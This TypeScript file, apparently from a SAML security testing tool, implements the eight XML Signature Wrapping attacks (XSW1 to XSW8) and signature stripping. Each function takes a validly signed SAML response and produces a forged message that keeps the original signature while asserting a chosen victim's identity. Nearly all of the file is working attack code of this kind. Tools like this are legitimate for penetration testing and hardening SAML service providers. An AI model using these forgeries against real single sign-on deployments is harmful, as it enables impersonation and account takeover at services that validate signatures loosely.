import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';

/**
 * Signature-wrapping variants XSW1–XSW8 (Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be", USENIX Security 2012), built the way SAML Raider builds them. Each keeps the
 * IdP's valid signature somewhere in the message and adds an evil assertion for `victim`.
 */
const DS = 'http://www.w3.org/2000/09/xmldsig#';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function child(parent: Element, ns: string, name: string): Element {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === name) return n as Element;
  }
  throw new Error(`no ${name} under ${parent.localName}`);
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(child(copy, DS, 'Signature'));
  return copy;
}

function makeEvil(assertion: Element, victim: string, id?: string): void {
  if (id) assertion.setAttribute('ID', id);
  const nameId = child(child(assertion, SAML, 'Subject'), SAML, 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild((nameId.ownerDocument as Document).createTextNode(victim));
}

function objectWith(doc: Document, content: Element): Element {
  const object = doc.createElementNS(DS, 'ds:Object');
  object.appendChild(content);
  return object;
}

const serialize = (doc: Document) => new XMLSerializer().serializeToString(doc);

export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/** XSW1/XSW2 take a response-signed message; XSW3–XSW8 an assertion-signed one. */
export function xsw(variant: XswVariant, signedXml: string, victim: string): string {
  const doc = parse(signedXml);
  const response = doc.documentElement as Element;
  if (variant === 1 || variant === 2) {
    // The signed original moves under (1) or next to (2) the signature; the root becomes evil.
    const original = withoutSignature(response);
    makeEvil(child(response, SAML, 'Assertion'), victim);
    response.setAttribute('ID', '_evil_response');
    const signature = child(response, DS, 'Signature');
    if (variant === 1) signature.appendChild(objectWith(doc, original));
    else response.insertBefore(original, signature);
    return serialize(doc);
  }
  const assertion = child(response, SAML, 'Assertion');
  switch (variant) {
    case 3: {
      // Evil assertion first, the signed one after it.
      const evil = withoutSignature(assertion);
      makeEvil(evil, victim, '_evil_assertion');
      response.insertBefore(evil, assertion);
      break;
    }
    case 4: {
      // The signed assertion becomes a child of the evil one.
      const evil = withoutSignature(assertion);
      makeEvil(evil, victim, '_evil_assertion');
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 5: {
      // Evil assertion keeps the signature; an unsigned copy of the original goes to the end.
      const original = withoutSignature(assertion);
      makeEvil(assertion, victim, '_evil_assertion');
      response.appendChild(original);
      break;
    }
    case 6: {
      // Like XSW5, the original copy hidden in the signature's Object.
      const original = withoutSignature(assertion);
      makeEvil(assertion, victim, '_evil_assertion');
      child(assertion, DS, 'Signature').appendChild(objectWith(doc, original));
      break;
    }
    case 7: {
      // The signed assertion hides in <Extensions>; an evil copy takes its place.
      const evil = withoutSignature(assertion);
      makeEvil(evil, victim);
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
      response.replaceChild(evil, assertion);
      response.insertBefore(extensions, evil);
      extensions.appendChild(assertion);
      break;
    }
    case 8: {
      // Evil assertion (same id) carries the signature, whose Object holds the unsigned original.
      const original = withoutSignature(assertion);
      makeEvil(assertion, victim);
      child(assertion, DS, 'Signature').appendChild(objectWith(doc, original));
      break;
    }
  }
  return serialize(doc);
}

/** Removes every ds:Signature (signature stripping). */
export function stripSignatures(xml: string): string {
  return xml.replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/g, '');
}
